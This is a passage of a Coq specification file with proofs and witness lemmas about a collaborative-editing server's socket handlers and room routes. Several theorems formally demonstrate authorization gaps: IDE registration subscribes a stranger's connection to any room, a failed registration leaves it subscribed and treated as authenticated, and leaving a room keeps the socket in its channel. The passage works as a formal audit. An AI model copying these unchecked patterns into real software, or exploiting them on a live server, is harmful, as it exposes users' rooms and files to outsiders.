        { assert (Hin : In c0 (List.filter p (db_cursors d))) by (rewrite Hl; by left).
          by apply filter_In in Hin as [_ ?]. }
        eexists. split; [reflexivity|]. subst g. cbv beta. rewrite Hc0. cbn. done.
      * simpl in Hlen. lia.
    + rewrite (filter_map_stable (fun c => negb (p c)) g).
      * rewrite (map_ext_in g (fun c => c)); [apply List.map_id|].
        intros c Hc. apply filter_In in Hc as [_ Hc].
        subst g. cbv beta. by destruct (p c).
      * intros c. by rewrite Hg.
  - split.
    + rewrite List.filter_app, (filter_none p _ Hex). cbn [List.filter app].
      replace (p _) with true.
      * eexists. split; [reflexivity|]. cbn. done.
      * subst p. unfold Store.same_cursor. cbn. by rewrite !String.eqb_refl.
    + rewrite List.filter_app. cbn [List.filter].
      replace (p _) with true.
      * cbn. by rewrite app_nil_r.
      * subst p. unfold Store.same_cursor. cbn. by rewrite !String.eqb_refl.
Qed.

(** Ann moves her cursor twice on a file that is not in the store. *)
Lemma cursor_update_one_row_witness :
  cursor_position <$>
    cursors_of "ann" "no-such-file"
      (db (exec_world
             (cursor_update (Fixture.socket_of Fixture.ann)
                {| cu_roomId := "r1"; cu_fileId := "no-such-file"; cu_position := 3;
                   cu_line := 1; cu_column := 3; cu_selection := None |})
             (exec_world
                (cursor_update (Fixture.socket_of Fixture.ann)
                   {| cu_roomId := "r1"; cu_fileId := "no-such-file"; cu_position := 1;
                      cu_line := 1; cu_column := 1; cu_selection := None |})
                Fixture.world)))
  = [3%Z].
Proof.
  destruct (cursor_update_one_row (Fixture.socket_of Fixture.ann)
              {| cu_roomId := "r1"; cu_fileId := "no-such-file"; cu_position := 3;
                 cu_line := 1; cu_column := 3; cu_selection := None |}
              (exec_world
                 (cursor_update (Fixture.socket_of Fixture.ann)
                    {| cu_roomId := "r1"; cu_fileId := "no-such-file"; cu_position := 1;
                       cu_line := 1; cu_column := 1; cu_selection := None |})
                 Fixture.world))
    as [(c & Hc & Hp & _) _].
  - reflexivity.
  - vm_compute. lia.
  - cbv zeta in Hc. cbn [a_userId cu_fileId Fixture.socket_of Fixture.ann user_id] in Hc.
    rewrite Hc. cbn. by rewrite Hp.
Defined.

(** *** file-created, file-deleted *)

(** X6: file-created from a caller with access to the project adds one
    file to the store, with the name, the path and the content of the
    payload, in the project named, and tells every socket of the room
    named in the payload, the sender among them when it is in the room;
    from a caller without access it adds nothing and tells nobody but
    the sender. *)
Theorem file_created_reaches_room socket data s :
  (forall p,
     calls_fine 2 (oracle (base s)) = true ->
     Store.project_findFirst (fc_projectId data) (a_userId socket) (db (base s)) = Some p ->
     exists newFile,
       db_files (db (base (exec_server (file_created socket data) s))) =
         db_files (db (base s)) ++ [newFile] /\
       file_name newFile = nf_name (fc_file data) /\
       file_path newFile = nf_path (fc_file data) /\
       file_content newFile = nf_content (fc_file data) /\
       file_projectId newFile = fc_projectId data /\
       (forall l, nf_language (fc_file data) = Some l -> file_language newFile = l) /\
       posts (file_created socket data) s =
         [ {| po_from := None; po_target := ToRoom (fc_roomId data);
              po_recipients := subscribers (adapter (base s)) (fc_roomId data);
              po_notice := NoFileCreated newFile (a_user socket) (clock (base s)) |} ]) /\
  (Store.project_findFirst (fc_projectId data) (a_userId socket) (db (base s)) = None ->
     db (base (exec_server (file_created socket data) s)) = db (base s) /\
     posts (file_created socket data) s = [] /\
     forallb to_sender (emits (file_created socket data) s) = true).
Proof.
  destruct s as [[d ad act ide ob co cl o us sp sw] po rows].
  unfold file_created. split.
  - intros p Hf Hp. hred_in Hf. hred_in Hp.
    exists (created_row socket data
              {| db := d; adapter := ad; activeDeployments := act; ideConnections := ide;
                 outbox := ob; console := co; clock := cl; oracle := o; uuids := us;
                 spawned := sp; statusWrites := sw |}).
    unfold created_row.
    destruct us as [|u us];
      destruct o as [|[so se|so se m] [|[so' se'|so' se' m'] o]]; try discriminate Hf;
      hred; rewrite Hp; hred; unfold Store.projectFile_create; hred; tidy;
      repeat (split; [reflexivity|]);
      (split; [by intros l ->|reflexivity]).
  - intros Hp. hred_in Hp.
    destruct o as [|[so se|so se m] o]; hred; rewrite ?Hp; hred; tidy;
      repeat split; reflexivity.
Qed.

(** Bob, who sits in r1, creates a file and is among those told. *)
Lemma file_created_reaches_room_witness :
  (exists newFile,
     po_notice <$> posts (file_created (Fixture.socket_of Fixture.bob) bob_creates)
                         (server_of Fixture.world) =
       [NoFileCreated newFile Fixture.bob 1000] /\
     po_recipients <$> posts (file_created (Fixture.socket_of Fixture.bob) bob_creates)
                             (server_of Fixture.world) = [ {[ "s-bob" ]} ]) /\
  db (base (exec_server (file_created (Fixture.socket_of Fixture.eve) bob_creates)
              (server_of Fixture.world)))
  = db Fixture.world.
Proof.
  split.
  - destruct (file_created_reaches_room (Fixture.socket_of Fixture.bob) bob_creates
                (server_of Fixture.world)) as [H _].
    destruct (H {| project_id := "p1"; project_name := "site"; project_roomId := "r1" |}
                eq_refl eq_refl) as (newFile & _ & _ & _ & _ & _ & _ & ->).
    exists newFile. split; [reflexivity|]. vm_compute. reflexivity.
  - destruct (file_created_reaches_room (Fixture.socket_of Fixture.eve) bob_creates
                (server_of Fixture.world)) as [_ H].
    destruct (H eq_refl) as [Hd _]. exact Hd.
Defined.

Lemma delete_found id d :
  existsb (fun f => String.eqb (file_id f) id) (db_files d) = true ->
  projectFile_delete id d =
    (Ok tt, Store.set_files (List.filter (fun f => negb (String.eqb (file_id f) id))) d).
Proof. unfold projectFile_delete. by intros ->. Qed.

(** X7: file-deleted from a caller with access to the file removes every
    row with the id and no other row, and tells every socket of the room
    named; from a caller without access it removes nothing. *)
Theorem file_deleted_removes socket data s :
  (forall file,
     calls_fine 2 (oracle (base s)) = true ->
     Store.projectFile_findFirst (fd_fileId data) (a_userId socket) (db (base s))
       = Some file ->
     let files' := db_files (db (base (exec_server (file_deleted socket data) s))) in
     files' = List.filter (fun f => negb (String.eqb (file_id f) (fd_fileId data)))
                          (db_files (db (base s))) /\
     existsb (fun f => String.eqb (file_id f) (fd_fileId data)) files' = false /\
     po_recipients <$> posts (file_deleted socket data) s =
       [ subscribers (adapter (base s)) (fd_roomId data) ]) /\
  (Store.projectFile_findFirst (fd_fileId data) (a_userId socket) (db (base s)) = None ->
     db (base (exec_server (file_deleted socket data) s)) = db (base s) /\
     posts (file_deleted socket data) s = []).
Proof.
  destruct s as [[d ad act ide ob co cl o us sp sw] po rows].
  unfold file_deleted. split.
  - intros file Hf Hfile.
    pose proof (CollaborationSpec.found_file_exists _ _ _ _ Hfile) as Hex.
    hred_in Hf. hred_in Hfile. hred_in Hex.
    assert (Hgone : existsb (fun f => String.eqb (file_id f) (fd_fileId data))
                      (List.filter (fun f => negb (String.eqb (file_id f) (fd_fileId data)))
                                   (db_files d)) = false).
    { apply not_true_is_false. intros H. apply existsb_exists in H as (f & Hin & Hid).
      apply filter_In in Hin as [_ Hn]. by rewrite Hid in Hn. }
    destruct o as [|[so se|so se m] [|[so' se'|so' se' m'] o]]; try discriminate Hf;
      hred; rewrite Hfile; hred; rewrite (delete_found _ _ Hex); hred; tidy;
      (split; [reflexivity|split; [exact Hgone | reflexivity]]).
  - intros Hfile. hred_in Hfile.
    destruct o as [|[so se|so se m] o]; hred; rewrite ?Hfile; hred; tidy;
      split; reflexivity.
Qed.

(** Ann deletes f1; Eve cannot. *)
Lemma file_deleted_removes_witness :
  db_files (db (base (exec_server
     (file_deleted (Fixture.socket_of Fixture.ann) {| fd_roomId := "r1"; fd_fileId := "f1" |})
     {| base := Fixture.world; posted := []; ide_rows := [] |}))) = [] /\
  db (base (exec_server
     (file_deleted (Fixture.socket_of Fixture.eve) {| fd_roomId := "r1"; fd_fileId := "f1" |})
     {| base := Fixture.world; posted := []; ide_rows := [] |})) = db Fixture.world.
Proof.
  split.
  - destruct (file_deleted_removes (Fixture.socket_of Fixture.ann)
                {| fd_roomId := "r1"; fd_fileId := "f1" |}
                {| base := Fixture.world; posted := []; ide_rows := [] |}) as [H _].
    destruct (H {| file_id := "f1"; file_name := "a.txt"; file_path := "a.txt";
                   file_content := "v0"; file_language := "text";
                   file_projectId := "p1"; file_updatedAt := 50 |}
                eq_refl eq_refl) as [-> _].
    reflexivity.
  - destruct (file_deleted_removes (Fixture.socket_of Fixture.eve)
                {| fd_roomId := "r1"; fd_fileId := "f1" |}
                {| base := Fixture.world; posted := []; ide_rows := [] |}) as [_ H].
    destruct (H eq_refl) as [Hd _]. exact Hd.
Defined.

End CollaborationMoreSpec.

(** ** The room routes *)

Module RoomsSpec.
Import Collaboration CollaborationClaims Rooms.

Lemma room_findReadable_spec d id uid :
  is_Some (room_findReadable id uid d) <-> owns_or_belongs d id uid \/ is_public d id.
Proof.
  unfold room_findReadable, readable, owns_or_belongs, is_public. split.
  - intros [r Hr]. apply find_some in Hr as [Hin H].
    apply andb_true_iff in H as [H1 H2]. apply String.eqb_eq in H1.
    apply orb_true_iff in H2 as [H2|H2]; [left|right; by exists r].
    exists r. split; [done|]. split; [done|].
    apply orb_true_iff in H2 as [H2|H2].
    + left. by apply String.eqb_eq.
    + right. apply members_some_spec in H2. by rewrite H1 in H2.
  - intros H. destruct (find _ (db_rooms d)) eqn:E; [eauto|]. exfalso.
    destruct H as [(r & Hin & Hid & H)|(r & Hin & Hid & H)];
      apply (find_none _ _ E) in Hin; apply andb_false_iff in Hin as [Hin|Hin].
    + apply String.eqb_neq in Hin. done.
    + apply orb_false_iff in Hin as [Hin _]. apply orb_false_iff in Hin as [H1 H2].
      destruct H as [H|H].
      * apply String.eqb_neq in H1. done.
      * rewrite <- Hid in H. apply members_some_spec in H. congruence.
    + apply String.eqb_neq in Hin. done.
    + apply orb_false_iff in Hin as [_ Hin]. congruence.
Qed.

(** X8: GET /:id answers 200 with the room, its members and the list of
    its files exactly when the caller owns the room, is a member of it
    or the room is public, and 404 otherwise; it writes nothing.  A
    stranger to a public room is thus served by the route while
    join-room on the socket turns the same caller away. *)
Theorem get_room_readable socket id w :
  next_fault w = None ->
  let uid := a_userId socket in
  (owns_or_belongs (db w) id uid \/ is_public (db w) id ->
     exists r, In r (db_rooms (db w)) /\ room_id r = id /\
       eval_world (get_room uid id) w =
         Ok {| res_status := 200; res_body := room_body (db w) r |}) /\
  (~ (owns_or_belongs (db w) id uid \/ is_public (db w) id) ->
     eval_world (get_room uid id) w =
       Ok {| res_status := 404; res_body := BodyError "Room not found or access denied" |}) /\
  db (exec_world (get_room uid id) w) = db w /\
  (~ owns_or_belongs (db w) id uid ->
     adapter (exec_world (join_room socket id) w) = adapter w).
Proof.
  intros Hf uid. subst uid.
  pose proof (room_findReadable_spec (db w) id (a_userId socket)) as Hspec.
  pose proof (CollaborationSpec.room_findFirst_spec (db w) id (a_userId socket)) as Hjoin.
  pose proof (CollaborationSpec.join_room_refused socket id w) as Href.
  unfold next_fault in Hf.
  destruct w as [d ad act ide ob co cl o us sp sw]. mred_in Hf. mred_in Hspec.
  mred_in Hjoin.
  unfold get_room, internal_error.
  repeat split.
  - intros H. apply Hspec in H as [r Hr].
    exists r. pose proof (find_some _ _ Hr) as [Hin Hb].
    apply andb_true_iff in Hb as [Hb _]. apply String.eqb_eq in Hb.
    split; [done|]. split; [done|].
    unfold room_findReadable in Hr.
    destruct o as [|[so se|so se m'] o]; try discriminate; mred;
      unfold room_findReadable; rewrite Hr; reflexivity.
  - intros H. destruct (room_findReadable id (a_userId socket) d) eqn:E.
    { exfalso. apply H, Hspec. eauto. }
    destruct o as [|[so se|so se m'] o]; try discriminate; mred; rewrite E; reflexivity.
  - destruct o as [|[so se|so se m'] o]; try discriminate; mred;
      destruct (room_findReadable id (a_userId socket) d); reflexivity.
  - intros H. apply Href. mred.
    destruct (Store.room_findFirst id (a_userId socket) d) eqn:E; [|done].
    exfalso. apply H, Hjoin. eauto.
Qed.

(** Eve, a stranger to the public room r1, reads it over the route and
    is refused on the socket. *)
Lemma get_room_readable_witness :
  (exists r, In r (db_rooms Fixture.store) /\ room_id r = "r1" /\
     eval_world (get_room "eve" "r1") Fixture.world =
       Ok {| res_status := 200; res_body := room_body Fixture.store r |}) /\
  adapter (exec_world (join_room (Fixture.socket_of Fixture.eve) "r1") Fixture.world) =
    adapter Fixture.world.
Proof.
  destruct (get_room_readable (Fixture.socket_of Fixture.eve) "r1" Fixture.world eq_refl)
    as (H1 & _ & _ & H4).
  split.
  - apply H1. right. eexists. split; [left; reflexivity|]. split; reflexivity.
  - apply H4. intros (r & Hin & Hid & H).
    destruct Hin as [<-|[<-|[]]]; [|discriminate Hid].
    destruct H as [H|(m & Hm & _ & Hu)]; [discriminate H|].
    destruct Hm as [<-|[]]. discriminate Hu.
Defined.

Lemma deleteMany_gone uid id l :
  existsb (fun m => String.eqb (member_roomId m) id && String.eqb (member_userId m) uid)
    (List.filter (fun m => negb (String.eqb (member_userId m) uid &&
                                 String.eqb (member_roomId m) id)) l) = false.
Proof.
  apply not_true_is_false. intros H. apply existsb_exists in H as (m & Hin & Hb).
  apply filter_In in Hin as [_ Hn]. rewrite andb_comm in Hb. by rewrite Hb in Hn.
Qed.

(** X9: POST /:id/leave refuses the owner with 400 and changes nothing;
    for anybody else it answers 200, whether or not the caller was a
    member, removes the caller's membership rows of that room and no
    other row, and leaves the socket channels as they were, so that a
    connection of the caller stays subscribed to the room. *)
Theorem leave_route uid id w r :
  calls_fine 2 (oracle w) = true ->
  room_findUnique id (db w) = Some r ->
  let w' := exec_world (leave uid id) w in
  (room_ownerId r = uid ->
     eval_world (leave uid id) w =
       Ok {| res_status := 400; res_body := BodyError "Room owner cannot leave the room" |} /\
     db w' = db w) /\
  (room_ownerId r <> uid ->
     eval_world (leave uid id) w =
       Ok {| res_status := 200; res_body := BodyMessage "Left room successfully" |} /\
     db_members (db w') =
       List.filter (fun m => negb (String.eqb (member_userId m) uid &&
                                   String.eqb (member_roomId m) id)) (db_members (db w)) /\
     Store.members_some (db w') id uid = false) /\
  adapter w' = adapter w.
Proof.
  intros Hf Hr w'. subst w'.
  destruct w as [d ad act ide ob co cl o us sp sw]. mred_in Hf. mred_in Hr.
  unfold leave, internal_error.
  split; [|split].
  - intros Ho. apply String.eqb_eq in Ho.
    destruct o as [|[so se|so se m'] o]; try discriminate; mred; rewrite Hr, Ho;
      split; reflexivity.
  - intros Ho. apply String.eqb_neq in Ho.
    destruct o as [|[so se|so se m'] [|[so' se'|so' se' m''] o]]; try discriminate;
      mred; rewrite Hr, Ho; unfold roomMember_deleteMany; mred;
      (split; [reflexivity|split; [reflexivity|apply deleteMany_gone]]).
  - destruct (String.eqb (room_ownerId r) uid) eqn:Ho;
    destruct o as [|[so se|so se m'] [|[so' se'|so' se' m''] o]]; try discriminate;
      mred; rewrite Hr, Ho; reflexivity.
Qed.

(** Bob leaves r1 and his socket stays in its channel; Ann, the owner,
    cannot leave. *)
Lemma leave_route_witness :
  Store.members_some (db (exec_world (leave "bob" "r1") Fixture.world)) "r1" "bob" = false /\
  subscribed (exec_world (leave "bob" "r1") Fixture.world) "s-bob" "r1" /\
  db (exec_world (leave "ann" "r1") Fixture.world) = db Fixture.world.
Proof.
  destruct (leave_route "bob" "r1" Fixture.world
              {| room_id := "r1"; room_name := "lab"; room_ownerId := "ann";
                 room_isPublic := true |} eq_refl eq_refl) as (_ & H2 & H3).
  destruct (leave_route "ann" "r1" Fixture.world
              {| room_id := "r1"; room_name := "lab"; room_ownerId := "ann";
                 room_isPublic := true |} eq_refl eq_refl) as (H1 & _ & _).
  split; [|split].
  - apply H2. discriminate.
  - unfold subscribed. rewrite H3. vm_compute. reflexivity.
  - apply H1. reflexivity.
Defined.

End RoomsSpec.

(** ** The IDE bridge: registration, disconnection, the rest of the handlers *)

Module BridgeMoreSpec.
Import IDEBridge BridgeClaims IDEBridgeMore.

Lemma subscribers_insert (ad : gmap string (gset string)) room X :
  subscribers (<[ room := X ]> ad) room = X.
Proof. unfold subscribers. by rewrite lookup_insert_eq. Qed.

Lemma found_user_exists uid d u :
  Store.user_findUnique uid d = Some u -> Store.user_exists (user_id u) d = true.
Proof.
  unfold Store.user_findUnique, Store.user_exists. intros H.
  apply find_some in H as [Hin _]. apply existsb_exists. exists u.
  split; [done|]. apply String.eqb_refl.
Qed.

(** X10: register-ide with a token that verifies for a stored user, the
    store calls going through, subscribes the connection to the room
    named in the payload and lists it among the connections, without
    looking the room up: the caller need not own it or belong to it.
    When the room is in the store, the row of the connection is stored
    and the sender and then the others of the room are told.  When it is
    not, the store refuses the row for its foreign key and the sender is
    told 'Failed to register IDE', the connection having joined the
    channel and been listed all the same. *)
Theorem register_ide_unchecked jwt_verify socket data s uid u :
  jwt_verify (rg_token data) = Some uid ->
  Store.user_findUnique uid (db (base s)) = Some u ->
  calls_fine 2 (oracle (base s)) = true ->
  let s' := exec_server (register_ide jwt_verify socket data) s in
  eval_server (register_ide jwt_verify socket data) s = Ok (registered_as socket u data) /\
  sid socket ∈ subscribers (adapter (base s')) (rg_roomId data) /\
  ideConnections (base s') =
    map_set (connection_for socket u data (base s)) (ideConnections (base s)) /\
  (Store.room_exists (rg_roomId data) (db (base s)) = true ->
     ide_rows s' = ide_rows s ++ [row_for u data (base s)] /\
     posts (register_ide jwt_verify socket data) s =
       [ {| po_from := Some (sid socket); po_target := ToSender;
            po_recipients := {[ sid socket ]};
            po_notice := NoIdeRegistered (next_uuid (base s)) u |};
         {| po_from := Some (sid socket); po_target := ToRoomOthers (rg_roomId data);
            po_recipients :=
              subscribers (adapter (base s)) (rg_roomId data) ∖ {[ sid socket ]};
            po_notice := NoIdeConnected (next_uuid (base s)) u (rg_ideType data)
                           (clock (base s)) |} ]) /\
  (Store.room_exists (rg_roomId data) (db (base s)) = false ->
     ide_rows s' = ide_rows s /\
     posts (register_ide jwt_verify socket data) s =
       [registration_error socket "Failed to register IDE"]).
Proof.
  intros Hv Hu Hf s'. subst s'.
  pose proof (found_user_exists _ _ _ Hu) as Hex.
  destruct s as [[d ad act ide ob co cl o us sp sw] po rows].
  hred_in Hu. hred_in Hf. hred_in Hex.
  unfold register_ide, registration_failed, Deployment.verify, connection_for, row_for,
    next_uuid, ideConnection_create, registration_error, Store.foreign_key.
  rewrite Hv. hred.
  destruct (Store.room_exists (rg_roomId data) d) eqn:Er;
    destruct us as [|u0 us];
    destruct o as [|[so se|so se m] [|[so' se'|so' se' m'] o]]; try discriminate Hf;
    hred; rewrite Hu; hred; cbn [icr_userId icr_roomId]; rewrite Hex, Er; hred; tidy;
    (split; [reflexivity|]);
    (split; [rewrite subscribers_insert;
             apply elem_of_union_l, elem_of_singleton; reflexivity|]);
    (split; [reflexivity|]); (split; [intros Hr; try discriminate Hr |
                                      intros Hr; try discriminate Hr]);
    (split; [reflexivity|]); try reflexivity.
  all: unfold resolve; rewrite ?subscribers_insert.
  all: f_equal; f_equal; f_equal.
  all: apply set_eq; intros x; rewrite !elem_of_difference, elem_of_union, elem_of_singleton;
    tauto.
Qed.

(** Eve's editor registers for r1, to which she is a stranger: it is
    subscribed and its row is stored.  It registers for r9, which is not
    in the store: the row is refused, and it is in the channel of r9. *)
Lemma register_ide_unchecked_witness :
  sid (fresh_socket "s-eve") ∈
    subscribers (adapter (base (exec_server
       (register_ide Fixture.jwt_verify (fresh_socket "s-eve") eve_registers)
       (server_of Fixture.world)))) "r1" /\
  Store.room_findFirst "r1" "eve" Fixture.store = None /\
  icr_roomId <$> ide_rows (exec_server
       (register_ide Fixture.jwt_verify (fresh_socket "s-eve") eve_registers)
       (server_of Fixture.world)) = ["r1"] /\
  sid (fresh_socket "s-eve") ∈
    subscribers (adapter (base (exec_server
       (register_ide Fixture.jwt_verify (fresh_socket "s-eve") eve_registers_nowhere)
       (server_of Fixture.world)))) "r9" /\
  posts (register_ide Fixture.jwt_verify (fresh_socket "s-eve") eve_registers_nowhere)
        (server_of Fixture.world) =
    [registration_error (fresh_socket "s-eve") "Failed to register IDE"].
Proof.
  destruct (register_ide_unchecked Fixture.jwt_verify (fresh_socket "s-eve") eve_registers
              (server_of Fixture.world) "eve" Fixture.eve eq_refl eq_refl eq_refl)
    as (_ & H2 & _ & H4 & _).
  destruct (register_ide_unchecked Fixture.jwt_verify (fresh_socket "s-eve")
              eve_registers_nowhere
              (server_of Fixture.world) "eve" Fixture.eve eq_refl eq_refl eq_refl)
    as (_ & G2 & _ & _ & G5).
  split; [exact H2|]. split; [reflexivity|].
  split; [destruct (H4 eq_refl) as [-> _]; reflexivity|].
  split; [exact G2|]. apply (G5 eq_refl).
Defined.

Lemma map_set_in c l : In c (map_set c l).
Proof.
  unfold map_set. destruct (existsb _ l) eqn:E.
  - apply existsb_exists in E as (c' & Hin & Hid).
    apply in_map_iff. exists c'. by rewrite Hid.
  - apply in_or_app. right. by left.
Qed.

(** X11: when the store rejects the row of the connection, register-ide
    answers with registration-error and stores nothing, but what it did
    before the call stays: the connection is subscribed to the room, is
    listed among the active connections of the room, and carries the
    user, so that the other handlers take it for authenticated. *)
Theorem register_ide_half_done jwt_verify socket data s uid u so0 se0 so se m o :
  jwt_verify (rg_token data) = Some uid ->
  Store.user_findUnique uid (db (base s)) = Some u ->
  oracle (base s) = Fine so0 se0 :: Fault so se m :: o ->
  let s' := exec_server (register_ide jwt_verify socket data) s in
  posts (register_ide jwt_verify socket data) s =
    [registration_error socket "Failed to register IDE"] /\
  ide_rows s' = ide_rows s /\
  eval_server (register_ide jwt_verify socket data) s = Ok (registered_as socket u data) /\
  sid socket ∈ subscribers (adapter (base s')) (rg_roomId data) /\
  In (connection_for socket u data (base s)) (getActiveConnections (rg_roomId data) (base s')).
Proof.
  intros Hv Hu Ho s'. subst s'.
  destruct s as [[d ad act ide ob co cl o' us sp sw] po rows].
  hred_in Hu. hred_in Ho. subst o'.
  unfold register_ide, registration_failed, Deployment.verify, connection_for, row_for,
    next_uuid, ideConnection_create, getActiveConnections, registration_error.
  rewrite Hv.
  destruct us as [|u0 us]; hred; rewrite Hu; hred; tidy;
    (split; [reflexivity|]); (split; [reflexivity|]); (split; [reflexivity|]);
    (split; [rewrite subscribers_insert; apply elem_of_union_l, elem_of_singleton;
             reflexivity|]);
    (apply filter_In; split; [apply map_set_in|]);
    cbv beta iota delta [ic_roomId ic_status is_connected];
    rewrite String.eqb_refl; reflexivity.
Qed.

Lemma register_ide_half_done_witness :
  posts (register_ide Fixture.jwt_verify (fresh_socket "s-eve") eve_registers)
        (server_of (WorldOps.set_oracle [Fine "" ""; Fault "" "" "connection lost"]
                      Fixture.world)) =
    [registration_error (fresh_socket "s-eve") "Failed to register IDE"] /\
  ic_userId <$> getActiveConnections "r1"
    (base (exec_server (register_ide Fixture.jwt_verify (fresh_socket "s-eve") eve_registers)
       (server_of (WorldOps.set_oracle [Fine "" ""; Fault "" "" "connection lost"]
                     Fixture.world)))) = ["eve"].
Proof.
  split; [|vm_compute; reflexivity].
  destruct (register_ide_half_done Fixture.jwt_verify (fresh_socket "s-eve") eve_registers
              (server_of (WorldOps.set_oracle [Fine "" ""; Fault "" "" "connection lost"]
                            Fixture.world))
              "eve" Fixture.eve "" "" "" "" "connection lost" [] eq_refl eq_refl eq_refl)
    as [H1 _].
  exact H1.
Defined.

(** X12: register-ide with a token that does not verify, or that names
    no stored user, answers with registration-error alone ('Failed to
    register IDE' in the first case, 'Invalid token' in the second) and
    leaves the socket, the channels, the connections and the rows as
    they were. *)
Theorem register_ide_rejected jwt_verify socket data s :
  next_fault (base s) = None ->
  match jwt_verify (rg_token data) with
  | Some uid => Store.user_findUnique uid (db (base s)) = None
  | None => True
  end ->
  let s' := exec_server (register_ide jwt_verify socket data) s in
  posts (register_ide jwt_verify socket data) s =
    [registration_error socket
       (match jwt_verify (rg_token data) with
        | Some _ => "Invalid token"
        | None => "Failed to register IDE"
        end)] /\
  eval_server (register_ide jwt_verify socket data) s = Ok socket /\
  adapter (base s') = adapter (base s) /\
  ideConnections (base s') = ideConnections (base s) /\
  ide_rows s' = ide_rows s.
Proof.
  intros Hf Hu s'. subst s'. unfold next_fault in Hf.
  destruct s as [[d ad act ide ob co cl o us sp sw] po rows].
  hred_in Hu. hred_in Hf.
  unfold register_ide, registration_failed, Deployment.verify, registration_error.
  destruct (jwt_verify (rg_token data)) as [uid|].
  - destruct o as [|[so se|so se m] o]; try discriminate Hf;
      hred; rewrite Hu; hred; tidy; repeat split; reflexivity.
  - hred; tidy; repeat split; reflexivity.
Qed.

Lemma register_ide_rejected_witness :
  posts (register_ide Fixture.jwt_verify (fresh_socket "s-x")
           {| rg_token := "forged"; rg_ideType := "vscode"; rg_version := "1.0";
              rg_workspacePath := "/tmp"; rg_roomId := "r1" |})
        (server_of Fixture.world) =
    [registration_error (fresh_socket "s-x") "Failed to register IDE"].
Proof.
  apply (register_ide_rejected Fixture.jwt_verify (fresh_socket "s-x")
           {| rg_token := "forged"; rg_ideType := "vscode"; rg_version := "1.0";
              rg_workspacePath := "/tmp"; rg_roomId := "r1" |}
           (server_of Fixture.world) eq_refl I).
Defined.

Lemma left_everywhere (ad : gmap string (gset string)) (s room : string) :
  s ∉ subscribers (filter (fun kv => snd kv <> ∅) ((fun x => x ∖ {[ s ]}) <$> ad)) room.
Proof.
  unfold subscribers.
  destruct (filter _ _ !! room) as [X|] eqn:E; cbn; [|apply not_elem_of_empty].
  apply map_lookup_filter_Some in E as [E _]. rewrite lookup_fmap in E.
  destruct (ad !! room) as [Y|]; [|discriminate]. injection E as <-.
  rewrite elem_of_difference, elem_of_singleton. tauto.
Qed.

Lemma map_delete_keeps id l c :
  In c l -> ic_id c <> id -> In c (map_delete id l).
Proof.
  intros Hin Hne. apply filter_In. split; [done|].
  apply negb_true_iff, String.eqb_neq. done.
Qed.

(** X13: on disconnect the socket is in no room any more, and the first
    connection listed for it is removed from the connections, whatever
    the store answers; any other connection stays, one registered for
    the same socket included.  When the row of the connection is
    updated, the others of its room are told; when the store has no such
    row the handler ends on the rejection and nobody is told. *)
Theorem ide_disconnect socket s :
  let s' := exec_server (disconnect socket) s in
  (forall room, sid socket ∉ subscribers (adapter (base s')) room) /\
  match connection_of (sid socket) (base s) with
  | None => ideConnections (base s') = ideConnections (base s) /\
            posts (disconnect socket) s = []
  | Some c =>
      ideConnections (base s') = map_delete (ic_id c) (ideConnections (base s)) /\
      (forall c', In c' (ideConnections (base s)) -> ic_id c' <> ic_id c ->
                  In c' (ideConnections (base s'))) /\
      (next_fault (base s) = None ->
       if existsb (fun r => String.eqb (icr_id r) (ic_id c)) (ide_rows s)
       then po_target <$> posts (disconnect socket) s = [ToRoomOthers (ic_roomId c)]
       else posts (disconnect socket) s = [] /\
            eval_server (disconnect socket) s = Store.not_found)
  end.
Proof.
  intros s'. subst s'. unfold next_fault.
  destruct s as [[d ad act ide ob co cl o us sp sw] po rows].
  unfold disconnect, connection_of, ideConnection_update. hred.
  destruct (find _ ide) as [c|] eqn:E; hred.
  - split; [|split; [|split]].
    + intros room. destruct o as [|[so se|so se m] o]; hred;
        try destruct (existsb _ rows); hred; apply left_everywhere.
    + destruct o as [|[so se|so se m] o]; hred;
        try destruct (existsb _ rows); reflexivity.
    + intros c' Hin Hne. destruct o as [|[so se|so se m] o]; hred;
        try destruct (existsb _ rows); hred; by apply map_delete_keeps.
    + intros Hf. destruct o as [|[so se|so se m] o]; try discriminate Hf; hred;
        destruct (existsb _ rows); hred; tidy; try split; reflexivity.
  - split; [|split].
    + intros room. apply left_everywhere.
    + reflexivity.
    + tidy. reflexivity.
Qed.

(** The second registration of Eve's socket outlives its disconnection. *)
Lemma ide_disconnect_witness :
  ic_id <$> ideConnections (base registered_twice) = ["id-1"; "id-2"] /\
  ic_id <$> ideConnections
     (base (exec_server (disconnect (fresh_socket "s-eve")) registered_twice)) = ["id-2"].
Proof.
  split; [vm_compute; reflexivity|].
  destruct (ide_disconnect (fresh_socket "s-eve") registered_twice) as [_ H].
  assert (E : connection_of (sid (fresh_socket "s-eve")) (base registered_twice) =
              Some (connection_for (fresh_socket "s-eve") Fixture.eve eve_registers
                      Fixture.world)) by (vm_compute; reflexivity).
  rewrite E in H. destruct H as [-> _]. vm_compute. reflexivity.
Defined.

Lemma register_ide_run jwt_verify socket data s uid u :
  jwt_verify (rg_token data) = Some uid ->
  Store.user_findUnique uid (db (base s)) = Some u ->
  Store.room_exists (rg_roomId data) (db (base s)) = true ->
  calls_fine 2 (oracle (base s)) = true ->
  exec_server (register_ide jwt_verify socket data) s =
    {| base :=
         {| db := db (base s);
            adapter := <[ rg_roomId data :=
                          {[ sid socket ]} ∪ subscribers (adapter (base s)) (rg_roomId data) ]>
                         (adapter (base s));
            activeDeployments := activeDeployments (base s);
            ideConnections :=
              map_set (connection_for socket u data (base s)) (ideConnections (base s));
            outbox := outbox (base s); console := console (base s);
            clock := clock (base s); oracle := drop 2 (oracle (base s));
            uuids := tail (uuids (base s)); spawned := spawned (base s);
            statusWrites := statusWrites (base s) |};
       posted := posted (exec_server (register_ide jwt_verify socket data) s);
       ide_rows := ide_rows s ++ [row_for u data (base s)] |}.
Proof.
  intros Hv Hu Er Hf.
  pose proof (found_user_exists _ _ _ Hu) as Hex.
  destruct s as [[d ad act ide ob co cl o us sp sw] po rows].
  hred_in Hu. hred_in Hf. hred_in Hex. hred_in Er.
  unfold register_ide, registration_failed, Deployment.verify, connection_for, row_for,
    next_uuid, ideConnection_create.
  rewrite Hv.
  destruct us as [|u0 us];
    destruct o as [|[so se|so se m] [|[so' se'|so' se' m'] o]]; try discriminate Hf;
    hred; rewrite Hu; hred; cbn [icr_userId icr_roomId]; rewrite Hex, Er; hred;
    reflexivity.
Qed.

Lemma map_set_fresh c l :
  existsb (fun c' => String.eqb (ic_id c') (ic_id c)) l = false -> map_set c l = l ++ [c].
Proof. unfold map_set. by intros ->. Qed.

Lemma map_delete_fresh id l :
